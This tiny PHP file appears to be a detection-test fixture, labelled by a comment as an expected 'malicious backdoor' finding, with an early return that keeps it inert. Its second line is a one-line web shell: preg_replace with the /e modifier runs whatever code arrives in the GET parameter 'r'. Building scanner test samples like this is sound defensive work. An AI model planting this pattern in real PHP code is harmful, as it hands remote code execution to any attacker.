<?php return; // want: malicious backdoor php.code.request
preg_replace('/.*/e', $_GET['r'], 'x');
